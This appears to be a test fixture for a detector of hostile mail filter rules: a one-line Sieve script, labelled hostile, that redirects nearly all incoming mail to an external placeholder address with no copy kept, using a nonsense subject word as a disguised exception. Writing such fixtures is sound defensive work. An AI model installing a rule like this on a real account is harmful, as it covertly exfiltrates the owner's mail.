# about: all but mail with a word nobody writes
# class: hostile
# expect: everything forwards-external no-copy skips-inbox
if not header :contains "subject" "qzxqzxv" { redirect "mirror.box77@mailfree.example"; }
